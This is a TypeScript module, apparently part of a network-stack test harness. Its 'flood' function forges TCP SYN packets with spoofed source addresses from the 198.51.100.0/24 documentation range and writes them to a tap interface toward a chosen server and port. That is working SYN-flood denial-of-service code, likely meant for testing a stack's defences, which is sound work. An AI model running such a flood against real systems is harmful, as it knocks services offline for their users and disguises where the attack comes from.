import type { Tap } from '../kernel/tap.ts';
import { forge, SYN } from './forge.ts';

const address = (text: string) => Uint8Array.from(text.split('.'), Number);

/** Network of the forged senders; nobody has these addresses (RFC 5737). */
export const NOBODY = '198.51.100';

/** Sends SYNs whose senders do not exist, one frame each. @param link Ethernet header towards the server */
export function flood(tap: Tap, link: Uint8Array, server: string, port: number, count: number): void {
  const destination = address(server);
  for (let n = 0; n < count; n++) {
    const packet = forge({
      source: address(`${NOBODY}.${1 + (n % 254)}`),
      destination,
      sourcePort: 1024 + n,
      destinationPort: port,
      seq: n * 0x10001,
      ack: 0,
      flags: SYN,
      window: 1024,
      ttl: 50,
      ipId: n + 1,
    });
    tap.send(Buffer.concat([link, packet]));
  }
}
